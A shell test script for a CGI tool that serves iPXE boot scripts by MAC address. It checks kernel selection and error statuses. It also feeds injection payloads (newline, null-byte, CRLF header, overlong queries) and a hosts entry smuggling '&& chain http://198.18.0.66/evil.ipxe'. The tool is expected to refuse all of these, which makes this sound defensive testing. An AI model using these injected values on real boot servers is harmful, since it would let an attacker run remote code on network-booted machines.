#!/bin/sh
# bootcfg --cgi: the host's iPXE script for its MAC, and for anything
# hostile a fixed local-boot script that echoes nothing of the request.

HERE=$(dirname "$0")
. "$HERE/../lib.sh"
. "$HERE/tools/bootcfg.sh"

bootcfg_require
plan 20

bc_cgi "mac=52:54:00:12:34:03"
is "$RC" 0 "known host: exit 0"
is "$(head -n 2 "$T/out" | tr '\n' '|')" "Content-Type: text/plain||" \
	"header, then a blank line"
ok "the script equals the generated file" \
	sh -c "tail -n +3 '$T/out' | cmp -s - '$BCDATA/golden/ipxe/52-54-00-12-34-03.ipxe'"

bc_cgi "mac=52%3A54%3A00%3A12%3A34%3A01&arch=efi"
like "$(cat "$T/out")" "^kernel /centos/vmlinuz-efi " "arch=efi picks the UEFI kernel"
bc_cgi "arch=0&mac=525400123401"
like "$(cat "$T/out")" "^kernel /centos/vmlinuz " "arch=0 picks the BIOS kernel"

bc_cgi "mac=52:54:00:99:99:99"
like "$(head -n 1 "$T/out")" "^Status: 404" "unknown MAC: 404"
like "$(cat "$T/out")" "^exit$" "with a local-boot script"

for q in 'mac=..%0a#!ipxe%0ashell' 'mac=52:54:00:12:34:03%00' \
	 "mac=52:54:00:12:34:03\"%3Bshell" 'mac=52:54:00:12:34:03%0d%0aX-Evil:%201' \
	 "mac=$(printf '%01000d' 0)shell" 'mac=52:54:00:12:34:03&mac=52:54:00:12:34:01'; do
	bc_cgi "$q"
	if grep -q 'shell\|Evil\|\.\.' "$T/out" ||
	   ! head -n 1 "$T/out" | grep -q '^Status: 400'; then
		fail "hostile query refused: $q"
		diag "$(cat "$T/out")"
	else
		pass "hostile query refused: $(printf '%.40s' "$q")"
	fi
done

# A host whose value iPXE would run as a command gets no script.
printf '[profile t]\nkernel = /linux\nappend = site=@SITE@\n' >"$T/prof-inj"
printf '%s\n' '52:54:00:12:34:01 node1 198.18.0.11 t site="a && chain http://198.18.0.66/evil.ipxe #"' >"$T/hosts-inj"
QUERY_STRING=mac=52:54:00:12:34:01 BOOTCFG_HOSTS=$T/hosts-inj \
	BOOTCFG_PROFILES=$T/prof-inj run "$BOOTCFG" --cgi
like "$(head -n 1 "$T/out")" "^Status: 500" "injected command: 500"
ok "no executable && served" sh -c "! grep -q -e '&&' -e 'chain' '$T/out'"
like "$(cat "$T/err")" "hosts-inj:1: host node1: kernel arguments: '&&'" \
	"and why in the server's log"

QUERY_STRING=mac=52:54:00:12:34:03 BOOTCFG_HOSTS=$T/missing \
	BOOTCFG_PROFILES=$BCDATA/profiles run "$BOOTCFG" --cgi
like "$(head -n 1 "$T/out")" "^Status: 500" "unreadable table: 500"
like "$(cat "$T/err")" "missing" "and the reason in the server's log"

unset QUERY_STRING
BOOTCFG_HOSTS=$BCDATA/hosts BOOTCFG_PROFILES=$BCDATA/profiles \
	run "$BOOTCFG" --cgi
like "$(head -n 1 "$T/out")" "^Status: 400" "no QUERY_STRING: 400"
run "$BOOTCFG" --cgi -p "$BCDATA/profiles"
is "$RC" 2 "no hosts table anywhere: usage error"

done_testing
